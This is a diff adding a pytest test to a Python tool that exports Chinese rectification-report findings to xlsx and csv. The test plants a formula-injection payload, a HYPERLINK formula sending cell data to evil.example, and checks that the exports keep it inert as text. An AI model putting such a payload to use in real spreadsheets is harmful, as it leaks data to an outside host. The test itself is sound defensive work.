@@ -282,3 +282,27 @@ def test_the_ledger_gives_figures_and_progress_a_number_format_beside_unit_and_t
         assert header[at - 1 : at + 2] == ["原文", "数值", "单位"], ws.title
         cell = ws.cell(2, at + 1)
         assert (cell.value, cell.number_format) == (value, number_format), ws.title
+
+
+def test_report_text_never_becomes_a_formula(tmp_path: Path) -> None:
+    import openpyxl
+
+    from tests.helpers import DEV_GOLD
+    from zhenggai.inputs import expand
+    from zhenggai.job import run_job
+
+    hostile = '＝HYPERLINK("http://evil.example/?d="&A2,"x")'  # full-width ＝ is normalised to =
+    text = (
+        (DEV_GOLD / "huiji_2021.txt")
+        .read_text(encoding="utf-8")
+        .replace("(1)理论学习表面化", f"(1){hostile}理论学习表面化", 1)
+    )
+    (tmp_path / "r.txt").write_text(text, encoding="utf-8")
+    run_job(expand([str(tmp_path / "r.txt")]), tmp_path / "job", quiet=True)
+    export(tmp_path / "job", "xlsx")
+    export(tmp_path / "job", "csv")
+    sheet = openpyxl.load_workbook(tmp_path / "job" / "export" / "整改台账.xlsx").worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    [row] = [r for r in read_csv(tmp_path / "job" / "export" / "problems.csv") if "HYPERLINK" in r["finding"]]
+    assert row["finding"].startswith("'=HYPERLINK")
